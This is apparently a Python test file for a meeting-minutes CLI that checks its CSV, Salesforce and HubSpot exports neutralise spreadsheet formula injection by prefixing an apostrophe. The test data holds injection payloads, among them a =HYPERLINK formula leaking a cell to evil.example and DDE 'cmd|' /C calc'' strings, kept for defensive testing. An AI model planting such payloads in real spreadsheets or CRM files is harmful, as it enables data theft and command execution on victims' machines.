"""Spreadsheet formulas in every CSV `samtui report` writes (csv, salesforce, hubspot: CSV
injection): a note typed as `todo: =HYPERLINK(...)` must not become a live formula in the
spreadsheet or CRM that opens the file. By default a cell that starts with = + - @ or a
tab gets a leading apostrophe (OWASP's advice); `--raw` gives the text exactly. Read back
with the csv module.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from samtui import cli
from samtui.core.minutes import ActionRecord, AttendeeRecord, MeetingRecord, Minutes

# What each formula start looks like in the wild, as typed in a note or written in a file.
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?leak="&B3,"Details")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
}
NEUTRALISED = {
    "=": '\'=HYPERLINK("http://evil.example/?leak="&B3,"Details")',
    "+": "'+cmd|' /C calc'!A0",
    "-": "'-2+3+cmd|' /C calc'!A0",
    "@": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "'\t=1+1",
}
COLUMNS = ["text", "owner_id", "owner_name", "item", "carried_from"]
"""The columns that carry text from a person (or a hand-edited file)."""
CRM_COLUMNS = {
    "salesforce": {
        "Subject": "text",
        "Owner Name": "name",
        "Owner Email": "mail",
        "Account Name": "account",
    },
    "hubspot": {
        "Task Title": "text",
        "Task Owner": "mail",
        "Owner Name": "name",
        "Company Name": "account",
    },
}
"""Each CRM profile's columns that start with text from a person, and which text."""
EMAILS = {"=": "=1+1@example.com", "+": "+1+1@example.com", "-": "-1+1@example.com"}
"""Formula starts an e-mail address may begin with (RFC 5322 allows them before the @)."""


def minutes_with(payload: str, tmp_path: Path) -> Path:
    """One action whose every text column starts with `payload` (each told apart by a tail
    word), owned by an attendee whose id and name do too."""
    record = MeetingRecord(
        title="Acme",
        account=payload + " account",
        agenda="a.toml",
        planned_minutes=30,
        actual_seconds=60,
    )
    email = EMAILS.get(payload[0])
    minutes = Minutes(
        meeting=record,
        attendees=[AttendeeRecord(id=payload + " id", name=payload + " name", email=email)],
        actions=[
            ActionRecord(
                id=1,
                text=payload + " text",
                owner=payload + " id",
                item=payload + " item",
                carried_from=payload + " file#1",
            )
        ],
    )
    return minutes.write(tmp_path / "m.toml")


def rows_of(
    argv: list[str], capsys: pytest.CaptureFixture[bytes], *, warned: bool = False
) -> list[list[str]]:
    """The CSV rows a report command printed; `warned`: the carried_from of the action
    names no file, which the CRM profiles say on stderr (it decides the samtui ID)."""
    assert cli.main(argv) == 0
    out, err = capsys.readouterr()
    assert (b"cannot follow carried_from" in err) if warned else err == b""
    return list(csv.reader(io.StringIO(out.decode("utf-8"), newline="")))


def texts(start: str, *, raw: bool) -> dict[str, str]:
    """What each kind of text in `minutes_with(PAYLOADS[start])` is in a CSV."""
    shown = PAYLOADS[start] if raw else NEUTRALISED[start]
    mail = EMAILS.get(start, "")
    return {
        "text": shown + " text",
        "name": shown + " name",
        "account": shown + " account",
        "mail": mail if raw or not mail else "'" + mail,
    }


@pytest.mark.parametrize("profile", list(CRM_COLUMNS))
@pytest.mark.parametrize("start", list(PAYLOADS))
def test_formulas_are_neutralised_in_every_crm_profile(
    profile: str, start: str, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    path = minutes_with(PAYLOADS[start], tmp_path)
    header, row = rows_of(["report", str(path), "--format", profile], capsysbinary, warned=True)
    cells = dict(zip(header, row, strict=True))
    wanted = texts(start, raw=False)
    assert {column: cells[column] for column in CRM_COLUMNS[profile]} == {
        column: wanted[text] for column, text in CRM_COLUMNS[profile].items()
    }
    assert not [c for c in row if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("profile", list(CRM_COLUMNS))
@pytest.mark.parametrize("start", list(PAYLOADS))
def test_raw_gives_the_exact_text_in_every_crm_profile(
    profile: str, start: str, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    path = minutes_with(PAYLOADS[start], tmp_path)
    argv = ["report", str(path), "--format", profile, "--raw"]
    header, row = rows_of(argv, capsysbinary, warned=True)
    cells = dict(zip(header, row, strict=True))
    wanted = texts(start, raw=True)
    assert {column: cells[column] for column in CRM_COLUMNS[profile]} == {
        column: wanted[text] for column, text in CRM_COLUMNS[profile].items()
    }


@pytest.mark.parametrize("start", list(PAYLOADS))
def test_formulas_are_neutralised_in_every_text_column(
    start: str, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    path = minutes_with(PAYLOADS[start], tmp_path)
    header, row = rows_of(["report", str(path), "--format", "csv"], capsysbinary)
    cells = dict(zip(header, row, strict=True))
    expected = NEUTRALISED[start]
    assert {column: cells[column] for column in COLUMNS} == {
        "text": expected + " text",
        "owner_id": expected + " id",
        "owner_name": expected + " name",
        "item": expected + " item",
        "carried_from": expected + " file#1",
    }
    assert (cells["id"], cells["due"], cells["status"]) == ("1", "", "open")


@pytest.mark.parametrize("start", list(PAYLOADS))
def test_raw_gives_the_exact_text(
    start: str, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    path = minutes_with(PAYLOADS[start], tmp_path)
    header, row = rows_of(["report", str(path), "--format", "csv", "--raw"], capsysbinary)
    cells = dict(zip(header, row, strict=True))
    payload = PAYLOADS[start]
    assert {column: cells[column] for column in COLUMNS} == {
        "text": payload + " text",
        "owner_id": payload + " id",
        "owner_name": payload + " name",
        "item": payload + " item",
        "carried_from": payload + " file#1",
    }


def test_the_issues_note_from_the_note_line_to_the_csv(
    tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    """The whole way: typed as a note, exported as minutes, reported as CSV."""
    from samtui.core.clock import FakeClock
    from samtui.core.session import Session

    agenda = tmp_path / "a.toml"
    agenda.write_text(
        '[meeting]\ntitle = "t"\naccount = "a"\nduration = 30\n'
        '[roles]\nmoderator = "ann"\ntimekeeper = "ann"\nscribe = "ann"\n'
        '[[attendees]]\nid = "ann"\nname = "Ann"\n[[items]]\ntitle = "i"\nminutes = 30\n',
        encoding="utf-8",
    )
    session = Session.start(agenda, clock=FakeClock())
    try:
        session.meeting.add_note('todo: =HYPERLINK("http://evil.example/?leak="&B3,"Details") @ann')
        path = session.finish(tmp_path / "m.toml")
    finally:
        session.close()
    _, row = rows_of(["report", str(path), "--format", "csv"], capsysbinary)
    assert row[1] == '\'=HYPERLINK("http://evil.example/?leak="&B3,"Details")'


def test_out_neutralises_too(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = minutes_with("=1+1", tmp_path)
    target = tmp_path / "actions.csv"
    assert cli.main(["report", str(path), "--format", "csv", "--out", str(target)]) == 0
    with target.open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file))[1][1] == "'=1+1 text"


@pytest.mark.parametrize("form", ["md", "ics"])
def test_raw_only_goes_with_a_csv_format(
    form: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = minutes_with("=1+1", tmp_path)
    assert cli.main(["report", str(path), "--format", form, "--raw"]) == 2
    assert capsys.readouterr() == (
        "",
        f"--raw: only goes with a CSV format (csv, salesforce, hubspot), not {form}\n",
    )
